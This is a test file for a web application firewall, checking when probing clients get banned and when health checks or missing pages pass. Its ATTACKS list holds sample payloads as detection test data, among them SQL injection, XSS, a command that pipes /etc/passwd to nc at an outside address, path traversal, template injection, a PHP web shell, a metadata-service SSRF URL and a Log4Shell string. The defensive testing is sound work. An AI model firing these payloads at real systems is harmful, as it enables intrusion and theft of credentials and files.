import { describe, expect, test } from "vitest";
import { probes } from "../../src/detectors/probes.ts";
import { recommended } from "../../src/recommended.ts";
import { memoryStore } from "../../src/stores/memory.ts";
import type { Decision } from "../../src/types.ts";
import { createWaf } from "../../src/waf.ts";

describe("a client that probes", () => {
  const build = () => {
    let now = 1_000_000_000_000;
    const waf = createWaf(recommended({ waves: false, clock: () => now, headers: false, log: { warn() {}, error() {} } }));
    const visit = (target: string, status = 404): string => {
      const decision = waf.inspect({ method: "GET", target, headers: new Headers(), peer: "192.0.2.1" }) as Decision;
      waf.observe(decision, { status: decision.action === "block" ? decision.status : status, durationMs: 1 });
      return decision.action === "block" ? decision.rule : "pass";
    };
    return {
      visit,
      pass: (ms: number) => {
        now += ms;
      },
    };
  };

  test("is banned after three different probes, for five minutes", () => {
    const { visit, pass } = build();
    expect(["/.env", "/.git/config", "/wp-login.php", "/"].map((target) => visit(target))).toEqual([
      "probes/dotfile",
      "probes/dotfile",
      "probes/foreign-script",
      "blocklist/banned",
    ]);
    pass(300_000);
    expect(visit("/")).toBe("pass");
  });

  test("is not banned for one and the same probe again and again", () => {
    const { visit } = build();
    for (let count = 0; count < 20; count++) expect(visit("/.env")).toBe("probes/dotfile");
    expect(visit("/")).toBe("pass");
  });

  test("may follow old links: suspicious names count only when they were not found, and half", () => {
    const { visit } = build();
    for (let count = 0; count < 30; count++) expect(visit(`/shop/page${count}.jsp`, 200)).toBe("pass");
    for (let count = 0; count < 6; count++) expect(visit(`/gone${count}.php`, 404)).toBe("pass");
    expect(visit("/")).toBe("blocklist/banned");
  });

  test("and guesses words is banned by what was not there, never by what was", () => {
    const { visit } = build();
    for (const path of ["/admin", "/console", "/old", "/test", "/backup", "/swagger", "/manage", "/v1"])
      expect(visit(path, 200)).toBe("pass");
    for (const path of ["/administrator/", "/panel.html", "/api-docs", "/old/index.html", "/x/webdav", "/staging"])
      expect(visit(path)).toBe("pass");
    expect(visit("/")).toBe("blocklist/banned");
  });

  /** One attack each of kinds that content inspection is certain about. */
  const ATTACKS = [
    "/?q=1'+union+select+password+from+users--",
    "/?q=<script>alert(1)</script>",
    "/?q=;cat+/etc/passwd|nc+203.0.113.9+4444",
    "/?q=../../../../../../etc/passwd",
    "/?q={{7*7}}{{constructor.constructor('return+process')()}}",
    "/?q=<?php+system($_GET['c']);?>",
    "/?q=http://169.254.169.254/latest/meta-data/iam/",
    "/?q=${jndi:ldap://203.0.113.9/a}",
  ];

  test("is banned for attacks of six kinds, each counting half a probe, and not for one that it sends again", () => {
    const { visit } = build();
    const rules: string[] = [];
    while (rules.at(-1) !== "blocklist/banned" && rules.length < ATTACKS.length * 3) {
      const attack = ATTACKS[Math.floor(rules.length / 3)]!;
      rules.push(visit(attack));
    }
    const kinds = new Set(rules.slice(0, -1).map((rule) => rule.split("/")[0]));
    expect(rules.at(-1)).toBe("blocklist/banned");
    expect([...kinds]).not.toContain("score");
    expect(kinds.size).toBe(6);
  });

  test("is not banned for a report that quotes many attacks, however often it is sent", () => {
    const { visit } = build();
    const report = `/?q=${ATTACKS.map((attack) => attack.slice(4)).join("+and+")}`;
    for (let count = 0; count < 20; count++) expect(visit(report)).not.toBe("blocklist/banned");
    expect(visit("/")).toBe("pass");
  });

  test("may be a monitor: health and counters pass, and are held against nobody where they are", () => {
    const { visit } = build();
    const readings = ["/actuator/health", "/actuator/health/liveness", "/actuator/info", "/server-status?auto"];
    for (let count = 0; count < 20; count++) for (const target of readings) expect(visit(target, 200), target).toBe("pass");
    for (const target of ["/server-status", "/server-status?auto&x", "/server-status?refresh=5", "/actuator/env"])
      expect(build().visit(target), target).toBe("probes/console");
  });

  test("is not banned for many missing pages of ordinary names", () => {
    const { visit } = build();
    for (let count = 0; count < 200; count++) visit(`/articles/a-missing-one-${count}`);
    expect(visit("/")).toBe("pass");
  });

  test("of hidden address is blocked probe by probe and banned by none", () => {
    const store = memoryStore();
    const waf = createWaf({ store, detectors: [probes()] });
    for (const target of ["/.env", "/.git/config", "/wp-login.php", "/backup.zip"]) {
      const decision = waf.inspect({ method: "GET", target, headers: new Headers(), peer: undefined }) as Decision;
      expect(decision.action).toBe("block");
      waf.observe(decision, { status: 403, durationMs: 1 });
    }
    expect(store.list("", 10, Date.now())).toEqual([]);
  });
});
